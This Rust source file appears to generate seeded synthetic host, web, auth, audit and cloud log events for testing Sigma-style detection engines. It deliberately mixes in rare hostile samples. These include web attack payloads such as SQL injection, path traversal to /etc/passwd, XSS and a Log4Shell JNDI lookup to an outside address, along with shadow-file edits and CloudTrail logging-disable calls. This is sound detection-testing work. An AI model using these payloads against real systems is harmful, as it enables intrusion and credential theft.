//! Events of hosts and of logs, made from a seed: each typed for us, and as JSON for the other engines.

use base::{Random, SeededRandom};
use detect::field_map::{NAMES, aliases, origin};
use detect::{cases, workload};
use record::{Activity, Event, Field, FileOp, Kind, Value as Typed};
use rsigma_parser::LogSource;
use serde_json::{Map, Value, json};

/// One event.
pub struct Told {
    /// For us.
    pub event: Event,
    /// For the others, with the names that rules use.
    pub json: Value,
    /// Its place in [`STREAMS`].
    pub stream: usize,
}

/// Whether a stream's events are what a log source is about.
type IsAbout = fn(&LogSource) -> bool;

/// What events come from, with the log sources that are about them, as our engine routes rules.
pub const STREAMS: &[(&str, IsAbout)] = &[
    ("exec", |source| typed(source, &["process_creation"])),
    ("create", |source| typed(source, &["file_event"])),
    ("write", |source| typed(source, &["file_event", "file_change", "file_access"])),
    ("read", |source| typed(source, &["file_access"])),
    ("rename", |source| typed(source, &["file_event", "file_rename"])),
    ("unlink", |source| typed(source, &["file_delete"])),
    ("net", |source| typed(source, &["network_connection"])),
    ("dns", |source| typed(source, &["dns_query"])),
    ("nginx", |source| is(&source.category, "webserver") || every_linux_log(source)),
    ("sshd", |source| service(source, &["sshd", "auth", "syslog"])),
    ("sudo", |source| service(source, &["sudo", "auth", "syslog"])),
    ("auditd", |source| service(source, &["auditd"])),
    ("cloudtrail", |source| is(&source.product, "aws") && is(&source.service, "cloudtrail")),
    ("kubernetes.audit", |source| is(&source.product, "kubernetes") && is(&source.service, "audit")),
];

fn is(part: &Option<String>, word: &str) -> bool {
    part.as_deref() == Some(word)
}

fn on_linux(source: &LogSource) -> bool {
    source.product.as_deref().is_none_or(|product| product == "linux")
}

fn typed(source: &LogSource, categories: &[&str]) -> bool {
    let category = source.category.as_deref().unwrap_or("");
    on_linux(source) && source.service.is_none() && categories.contains(&category)
}

fn every_linux_log(source: &LogSource) -> bool {
    is(&source.product, "linux") && source.category.is_none() && source.service.is_none()
}

fn service(source: &LogSource, services: &[&str]) -> bool {
    let named = source.service.as_deref().is_some_and(|service| services.contains(&service));
    on_linux(source) && named || every_linux_log(source)
}

/// Whether a log source is about an event, for engines that know its own log source only.
pub fn is_about(source: &LogSource, told: &Told) -> bool {
    STREAMS[told.stream].1(source)
}

/// Starts of programs, 5 % of them such as attackers make.
pub fn executions(count: usize) -> Result<Vec<Told>, String> {
    let events = workload::executions(&SeededRandom::new(7), count).map_err(|fault| fault.to_string())?;
    events.into_iter().map(told).collect()
}

/// What a host does and what its logs and clouds say: of ten events seven by the first, three by the second.
pub fn mixed(count: usize) -> Result<Vec<Told>, String> {
    let random = SeededRandom::new(11);
    let host = workload::mixture(&random, count * 7 / 10).map_err(|fault| fault.to_string())?;
    let mut all: Vec<Event> = host;
    while all.len() < count {
        let at = random.below(all.len() as u64 + 1) as usize;
        all.push(record(&random));
        let last = all.len() - 1;
        all.swap(at, last);
    }
    all.into_iter().map(told).collect()
}

/// An event with its other form.
pub fn told(event: Event) -> Result<Told, String> {
    let (name, category) = match &event.activity {
        Activity::Log(log) => (log.source.as_str(), ""),
        Activity::File(file) => match file.op() {
            FileOp::Create => ("create", "file_event"),
            FileOp::OpenRead => ("read", "file_event"),
            FileOp::Rename => ("rename", "file_event"),
            FileOp::Unlink => ("unlink", "file_event"),
            _ => ("write", "file_event"),
        },
        activity => match activity.kind() {
            Kind::Exec => ("exec", "process_creation"),
            Kind::Net => ("net", "network_connection"),
            kind => (kind.word(), "dns_query"),
        },
    };
    let stream = STREAMS.iter().position(|(known, _)| *known == name).ok_or(format!("no stream {name}"))?;
    let json = Value::Object(match &event.activity {
        Activity::Log(log) => {
            let mut json = Map::new();
            for pair in &log.fields {
                let others = aliases(&pair.name).iter().copied().filter(|other| *other != pair.name);
                for name in others.chain([pair.name.as_str()]) {
                    match json.get_mut(name) {
                        Some(Value::Array(list)) => list.push(json!(pair.value)),
                        Some(one) => *one = json!([one.clone(), pair.value]),
                        None => drop(json.insert(name.to_owned(), json!(pair.value))),
                    }
                }
            }
            json.insert("message".to_owned(), json!(log.message));
            json
        }
        _ => fields(&event, category, name == "rename"),
    });
    Ok(Told { event, json, stream })
}

/// Every field of a typed event by our word and by Sigma's names.
fn fields(event: &Event, category: &str, turned: bool) -> Map<String, Value> {
    let mut json = Map::new();
    let names = NAMES.iter().map(|(_, name, ..)| *name).filter(|name| *name != "Hashes");
    for name in Field::ALL.iter().map(|(_, word)| *word).chain(names) {
        let Some(origin) = origin(Some(category), turned, name) else { continue };
        let value = match origin.of(event) {
            // Logs write names where we keep numbers.
            Typed::Number(6) if name.ends_with("rotocol") => json!("tcp"),
            Typed::Number(1) if matches!(name, "dns.type" | "QueryType") => json!("A"),
            Typed::None => continue,
            Typed::Text(text) => json!(text),
            Typed::Number(number) => json!(number),
            Typed::Flag(flag) => json!(flag),
            Typed::Ip(address) => json!(address.to_string()),
            Typed::Hex(bytes) => json!(bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>()),
            Typed::Ancestors(proc) => json!(proc.ancestors().map(|above| &above.info.exe.path).collect::<Vec<_>>()),
        };
        json.insert(name.to_owned(), value);
    }
    json
}

const AGENTS: &[&str] =
    &["Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "curl/7.88.1", "kube-probe/1.29"];
const PAGES: &[&str] = &["/", "/index.html", "/api/v1/items", "/static/app.js", "/login", "/images/logo.png"];
const QUERIES: &[&str] = &["", "page=2", "q=shoes&sort=price", "id=4711", "lang=de", "session=8f3a"];
/// One request in twenty looks like these.
const ATTACKS: &[(&str, &str)] = &[
    ("/index.php", "id=1+UNION+SELECT+user,password+FROM+users"),
    ("/cgi-bin/test", "file=../../../../etc/passwd"),
    ("/search", "q=<script>alert(1)</script>"),
    ("/struts", "x=${jndi:ldap://198.51.100.7/a}"),
    ("/up.php", "cmd=id"),
];
const CALLS: &[(&str, &str)] = &[
    ("DescribeInstances", "ec2.amazonaws.com"),
    ("GetObject", "s3.amazonaws.com"),
    ("AssumeRole", "sts.amazonaws.com"),
    ("ListBuckets", "s3.amazonaws.com"),
    ("Decrypt", "kms.amazonaws.com"),
];
const RARE_CALLS: &[(&str, &str)] = &[
    ("StopLogging", "cloudtrail.amazonaws.com"),
    ("CreateAccessKey", "iam.amazonaws.com"),
    ("DisableKey", "kms.amazonaws.com"),
    ("DeleteDetector", "guardduty.amazonaws.com"),
];

fn pick<T: Copy>(random: &dyn Random, from: &[T]) -> T {
    from[random.below(from.len() as u64) as usize]
}

/// A record of a log: half web access, the rest logins, audit and clouds.
fn record(random: &dyn Random) -> Event {
    let rare = random.below(20) == 0;
    let address = format!("203.0.113.{}", random.below(200));
    match random.below(10) {
        0..5 => {
            let (stem, query) = if rare { pick(random, ATTACKS) } else { (pick(random, PAGES), pick(random, QUERIES)) };
            let fields = [
                ("cs-method", pick(random, &["GET", "GET", "POST", "HEAD"])),
                ("cs-uri-stem", stem),
                ("cs-uri-query", query),
                ("cs-user-agent", pick(random, AGENTS)),
                ("cs-referer", "https://shop.example/"),
                ("sc-status", pick(random, &["200", "200", "304", "404", "500"])),
                ("c-ip", &address),
                ("cs-host", "shop.example"),
            ];
            let line = format!(
                "{address} - - \"{} {stem}?{query} HTTP/1.1\" {} \"{}\"",
                fields[0].1, fields[5].1, fields[3].1
            );
            cases::log("nginx", Some(&line), &fields)
        }
        5 | 6 => {
            let user = pick(random, &["root", "deploy", "git", "backup"]);
            let failed = random.below(3) == 0;
            let line = format!(
                "{} password for {user} from {address} port 50122 ssh2",
                if failed { "Failed" } else { "Accepted" }
            );
            let fields = [("app", "sshd"), ("user", user), ("srcip", address.as_str())];
            cases::log("sshd", Some(&line), &fields)
        }
        7 => {
            let command = if rare { "/usr/bin/vi /etc/shadow" } else { "/usr/bin/systemctl restart app" };
            let line = format!("deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND={command}");
            let fields = [("app", "sudo"), ("user", "deploy"), ("USER", "root"), ("COMMAND", command)];
            cases::log("sudo", Some(&line), &fields)
        }
        8 => {
            let program = if rare { "/usr/bin/whoami" } else { "/usr/bin/make" };
            let fields =
                [("type", "EXECVE"), ("exe", program), ("a0", program), ("a1", "-j4"), ("euid", "0"), ("key", "run")];
            cases::log("auditd", None, &fields)
        }
        _ => cloud(random, rare, &address),
    }
}

/// A call of a cloud's or a cluster's interface.
fn cloud(random: &dyn Random, rare: bool, address: &str) -> Event {
    if random.below(2) == 0 {
        let (name, source) = if rare { pick(random, RARE_CALLS) } else { pick(random, CALLS) };
        let fields = [
            ("eventName", name),
            ("eventSource", source),
            ("userIdentity.type", pick(random, &["IAMUser", "AssumedRole"])),
            ("sourceIPAddress", address),
            ("awsRegion", "eu-central-1"),
        ];
        return cases::log("cloudtrail", None, &fields);
    }
    let fields = [
        ("verb", pick(random, &["get", "list", "watch", "create"])),
        ("objectRef.resource", if rare { "secrets" } else { pick(random, &["pods", "configmaps", "leases"]) }),
        ("objectRef.namespace", "default"),
        ("user.username", "system:serviceaccount:default:app"),
        ("responseStatus.code", "200"),
    ];
    cases::log("kubernetes.audit", None, &fields)
}
